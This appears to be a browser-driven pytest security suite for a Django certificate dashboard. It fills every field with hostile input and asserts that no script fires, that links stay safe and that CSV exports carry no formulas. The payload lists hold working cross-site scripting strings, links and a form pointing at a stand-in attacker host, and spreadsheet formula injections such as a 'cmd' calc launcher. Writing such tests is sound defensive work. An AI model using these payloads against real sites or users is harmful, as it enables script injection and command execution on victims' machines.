"""Whatever the vendor sends, no page of a real browser runs it, breaks the policy or turns its own words around."""

import csv
import json
from datetime import timedelta
from urllib.parse import urlencode

import pytest
from django.conf import settings
from django.test import Client

from certdash.audit import note
from certdash.models import AuditKind, Change, Grant, Rejection, Role, Team, User
from tests import world
from tests.world import NOW, make_certificate, make_group, make_learner, make_run, make_story, make_view

SCRIPTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></textarea></script><script>prompt(1)</script>",
    "{{ 7*7 }}{% debug %}${7*7}<%= 7*7 %>",
    "javascript:alert(1)",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
    "<form action=https://evil.example><input name=csrfmiddlewaretoken><button>Log in</button>",
    '<a hx-get="/apps/demo/" hx-trigger="load" hx-on::load="confirm(1)">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\u202egpj.exe\u202c \u2066\u2067\u2068",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a\u2028b\u2029c\x0b\x1b[31m",
]
LINKS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
         "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example/x", "https://a@evil.example/",
         'https://vendor.example/"onclick="alert(1)', "https://vendor.example/<script>"]  # fmt: skip
# Runs before any script of the page: what fires is counted, whichever way it was reached.
HOOKS = """
window.fired = [];
for (const name of ["alert", "prompt", "confirm", "print"]) window[name] = (...said) => window.fired.push(name + said);
document.addEventListener("securitypolicyviolation", event => window.fired.push("policy: " + event.violatedDirective));
"""


@pytest.fixture
def hostile(live_server, transactional_db):
    """An app in which everything that the vendor can send is an attack."""
    cast = world.make_cast()
    run = make_run(cast.demo, "held", message=SCRIPTS[0], vendor_hash=SCRIPTS[1], story=SCRIPTS[2], users=SCRIPTS[:2])
    for number, evil in enumerate(SCRIPTS):
        story = make_story(cast.demo, evil, f"{number}{evil}"[:100], evil[:50])
        learner = make_learner(cast.demo, evil, evil, f"{number}{evil}"[:200])
        certificate = make_certificate(
            story, learner, firstname=evil, lastname=evil, email=f"{number}{evil}"[:200], telephone=evil[:50],
            country=evil[:100], city=evil[:100], url=LINKS[number % len(LINKS)], missing_in=run,
            state=("delivered", "pending", evil[:50])[number % 3], at=NOW - timedelta(days=number),
        )  # fmt: skip
        make_group(cast.demo, f"{number} {evil}"[:200], learner)
        Change.objects.create(
            app=cast.demo, run=run, story=story, certificate=certificate, kind="link", seen_at=NOW,
            before={"url": evil}, after={"url": LINKS[number % len(LINKS)]},
        )  # fmt: skip
        Rejection.objects.create(run=run, path=evil, reason=evil)
    note(AuditKind.TEAM, cast.demo, cast.owner, team=SCRIPTS[0], change=SCRIPTS[1])
    cast.owner.is_superuser = True  # who sees the pages of people and teams as well
    cast.team = Team.objects.create(name=SCRIPTS[0])
    cast.team.members.add(User.objects.create_user(SCRIPTS[7][:100], first_name=SCRIPTS[3], last_name=SCRIPTS[12]))
    Grant.objects.create(app=cast.demo, team=cast.team, role=Role.VIEWER)
    for evil in SCRIPTS:
        view = make_view(cast.viewer, evil[:100], "/certificates/", urlencode([("q", evil), (evil, evil)]), cast.demo)
        view.pinned_by.add(cast.owner)
    cast.views = [view, make_view(cast.owner, SCRIPTS[0], "/stories/", urlencode([("sort", SCRIPTS[1])]), cast.demo)]
    cast.viewer.first_name, cast.viewer.last_name = SCRIPTS[0], SCRIPTS[12]
    cast.viewer.save()
    cast.demo.name = cast.owner.first_name = SCRIPTS[1]
    cast.demo.save(), cast.owner.save()
    cast.url, cast.run = live_server.url, run
    return cast


@pytest.fixture
def client_of_owner(hostile):
    client = Client()
    client.force_login(hostile.owner)
    return client


@pytest.fixture
def walk(open_page, hostile, client_of_owner):
    """Opens a page of the owner's, and gives it with all that fired on it, mouse and focus on everything included."""
    page = open_page()
    cookie = client_of_owner.cookies[settings.SESSION_COOKIE_NAME].value
    page.context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": cookie, "url": hostile.url}])
    page.context.add_init_script(HOOKS)

    def walk(path):
        page.goto(hostile.url + path)
        page.wait_for_load_state("networkidle")
        page.evaluate(
            "document.querySelectorAll('*').forEach(each => { each.focus?.();"
            " each.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); })"
        )
        return page, page.evaluate("window.fired")

    return walk


def addresses(cast):
    stories, groups = cast.demo.stories.order_by("pk"), cast.demo.groups.order_by("pk")
    learners = cast.demo.learners.order_by("pk")
    run = f"/apps/demo/runs/{cast.run.pk}/"
    return [
        "/", "/certificates/", "/stories/", "/groups/", "/people/", "/apps/", "/apps/demo/", "/apps/demo/connection/",
        "/apps/demo/groups/", "/apps/demo/scope/", "/apps/demo/people/", "/apps/demo/runs/", "/apps/demo/audit/", run,
        f"{run}changes/", f"{run}members/", "/apps/demo/privacy/", "/apps/demo/erasures/", "/accounts/people/",
        f"/accounts/people/{cast.owner.pk}/", "/accounts/teams/", f"/accounts/teams/{cast.team.pk}/",
        "/accounts/audit/", "/accounts/profile/", "/views/", *(f"/views/{one.slug}/delete/" for one in cast.views),
        f"/views/{cast.views[1].slug}/edit/", *(f"/views/{one.slug}/" for one in cast.views),
        f"/views/add/?path=/certificates/&query={_quoted(urlencode([(SCRIPTS[0], SCRIPTS[1])]))}",
        f"/people/{learners[0].pk}/erase/", f"/people/{learners[1].pk}/erase/",
        f"/stories/demo/{_quoted(SCRIPTS[0])}/",  # which of two of one name is meant
        *(f"/stories/demo/{_quoted(one.key)}/" for one in stories[:6]),
        *(f"/groups/demo/{_quoted(one.key)}/" for one in groups[:3]),
        *(f"/people/{one.pk}/" for one in learners[:6]),
        *(f"/certificates/?q={_quoted(evil)}&state={_quoted(evil)}&sort={_quoted(evil)}" for evil in SCRIPTS[:6]),
        f"/certificates/?country={_quoted(SCRIPTS[1])}", f"/{_quoted(SCRIPTS[0])}/",
    ]  # fmt: skip


def _quoted(text):
    return "".join(f"%{byte:02X}" for byte in text.replace("%", "%25").replace("/", "%2F").encode())


def test_nothing_that_the_vendor_sends_runs_on_any_page(walk, hostile, page_problems):
    for path in addresses(hostile):
        page, fired = walk(path)
        assert fired == [], path
        assert page.url.startswith(hostile.url), path
        hrefs = page.eval_on_selector_all("[href], [action], [src]", "all => all.map(e => e.href ?? e.action ?? e.src)")
        odd = [one for one in hrefs if isinstance(one, str) and not one.startswith(("http://", "https://"))]
        assert odd == [], path
        assert page.locator("iframe, object, embed, style, [onerror], [onload], [onfocus], [hx-on]").count() == 0, path
    page_problems[:] = [one for one in page_problems if "404" not in one]  # the address that leads nowhere


def test_the_hooks_would_see_it(walk, page_problems):
    page, fired = walk("/")
    assert fired == []
    page.evaluate("() => { alert(1); const it = document.createElement('script'); it.text = 'prompt(2)';"
                  " document.body.append(it); }")  # fmt: skip
    page.evaluate("() => new Promise(seen => { const look = () => window.fired.length > 1 ? seen()"
                  " : setTimeout(look, 20); look(); })")  # fmt: skip
    assert page.evaluate("window.fired") == ["alert1", "policy: script-src-elem"]
    page_problems.clear()


def test_names_are_isolated_from_the_words_around_them(walk, hostile):
    page, _ = walk("/certificates/")
    bare = page.evaluate("""() => [...document.querySelectorAll('td')].flatMap(cell => {
        const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT), found = [];
        while (walker.nextNode()) if (walker.currentNode.data.includes('\\u202e')) found.push(walker.currentNode);
        return found.filter(node => !['isolate', 'isolate-override', 'plaintext'].includes(
            getComputedStyle(node.parentElement).unicodeBidi)).map(node => node.parentElement.outerHTML);
    })""")
    assert bare == []


def test_files_of_the_same_rows_open_again_and_hold_no_formula(client_of_owner, hostile):
    for path in ("/certificates/", "/stories/", "/groups/", "/people/", f"/apps/demo/runs/{hostile.run.pk}/changes/"):
        text = b"".join(client_of_owner.get(f"{path}?_export=csv")).decode("utf-8-sig")
        head, *rows = csv.reader(text.splitlines(keepends=True)) if "\x0b" not in text else _read(text)
        assert len(rows) == len(SCRIPTS), path
        assert {len(row) for row in rows} == {len(head)}
        assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r＝＋－＠")]
        lines = b"".join(client_of_owner.get(f"{path}?_export=jsonl")).split(b"\n")
        assert len([json.loads(line) for line in lines if line]) == len(SCRIPTS), path


def _read(text):
    return csv.reader(text.split("\r\n")[:-1])
